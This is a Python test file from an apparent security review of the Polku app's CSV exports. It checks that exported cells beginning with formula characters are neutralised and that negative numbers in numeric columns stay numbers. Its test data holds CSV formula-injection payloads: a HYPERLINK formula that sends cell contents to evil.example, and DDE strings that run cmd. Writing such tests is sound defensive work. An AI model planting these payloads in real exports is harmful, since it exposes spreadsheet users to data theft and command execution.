"""Security review 2026-12-05: CSV formula injection (IN-05) in every CSV Polku writes."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from sqlmodel import Session

from app.interop.csv.cells import spreadsheet_safe, spreadsheet_text
from app.interop.csv.export import EXPORT_COLUMNS, rows_to_csv
from app.interop.hsds.tables import table_csv
from tests.fixtures.admin import post_form
from tests.fixtures.catalogue import provider_ids_by_record
from tests.test_admin import edit_fields

FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?"&A2,"Klikkaa")',
    "street_address": "+1+cmd|' /C calc'!A0",
    "post_office": "-2+3+cmd|' /C calc'!A0",
    "opening_hours": "@SUM(1+1)*cmd|' /C calc'!A0",
    "accessibility": "\t=1+1",
    "description": "\r=1+1",
}


def _cells(text: str) -> list[dict[str, str]]:
    """Rows of Polku's provider export (semicolon-separated by default, for Excel)."""
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def test_in05_csv_formula_cells_are_neutralised(
    signed_in: dict[str, TestClient], admin_db: Session
) -> None:
    provider_id = provider_ids_by_record(admin_db)["P002"]
    url = f"/admin/palveluntuottajat/{provider_id}"
    client = signed_in["kymi"]
    fields = edit_fields(
        client, url, name=FORMULAS["name"], street_address=FORMULAS["street_address"]
    )
    assert post_form(client, url, fields).status_code == 303
    exported = client.get("/palveluntuottajat.csv", params={"alue": "10"})
    row = next(r for r in _cells(exported.text) if r["id"] == str(provider_id))
    assert row["name"] == "'" + FORMULAS["name"]
    assert row["street_address"] == "'" + FORMULAS["street_address"]
    # every writer neutralises every dangerous first character, tab and CR included
    for text in FORMULAS.values():
        written = _cells(rows_to_csv([dict.fromkeys(EXPORT_COLUMNS, text)]))[0]
        assert set(written.values()) == {"'" + text}
        hsds = next(csv.DictReader(io.StringIO(table_csv("service", [{"name": text}]))))
        assert hsds["name"] == "'" + text
        assert spreadsheet_text(spreadsheet_safe(text)) == text


def test_in05_negative_numbers_in_numeric_columns_stay_numbers() -> None:
    rows = [{"id": "x", "latitude": -12.5, "longitude": "-3", "name": "-3"}]
    written = next(csv.DictReader(io.StringIO(table_csv("location", rows))))
    assert (written["latitude"], written["longitude"]) == ("-12.5", "-3")
    assert written["name"] == "'-3"  # a text column: no exceptions
    formula = next(csv.DictReader(io.StringIO(table_csv("location", [{"latitude": "-1+cmd"}]))))
    assert formula["latitude"] == "'-1+cmd"
